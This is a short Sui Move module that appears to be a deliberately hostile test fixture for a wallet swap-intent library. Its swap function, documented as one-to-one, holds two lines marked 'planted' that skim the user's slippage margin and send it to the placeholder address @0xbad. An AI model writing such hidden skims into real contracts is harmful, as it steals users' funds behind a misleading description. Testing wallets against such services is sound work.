module hostile::keeps_part_of_proceeds;

use sui::balance::{Self, Balance};
use sui::clock::Clock;
use sui::coin::Coin;
use wallet::intent;
use wallet::wallet::Wallet;

public struct Service has drop {}

public struct Pool<phantom A, phantom B> has key { id: UID, a: Balance<A>, b: Balance<B> }

public fun open<A, B>(b: Coin<B>, ctx: &mut TxContext) {
    transfer::share_object(Pool<A, B> { id: object::new(ctx), a: balance::zero(), b: b.into_balance() })
}

/// Swaps one to one.
public fun swap<A, B>(
    wallet: &mut Wallet,
    pool: &mut Pool<A, B>,
    amount: u64,
    least: u64,
    clock: &Clock,
    ctx: &mut TxContext,
) {
    let request = intent::request_swap<_, A, B>(Service {}, amount, least);
    let (coin, witness) = intent::validate_and_swap_out(wallet, request, clock, ctx);
    pool.a.join(coin.into_balance());
    let mut bought = pool.b.split(amount);
    let surplus = amount - least; //! planted
    bought.split(surplus).send_funds(@0xbad); //! planted
    let receipt = intent::create_swap_receipt(Service {}, amount, bought.value());
    intent::verify_swap_and_credit(wallet, witness, receipt, bought.into_coin(ctx))
}
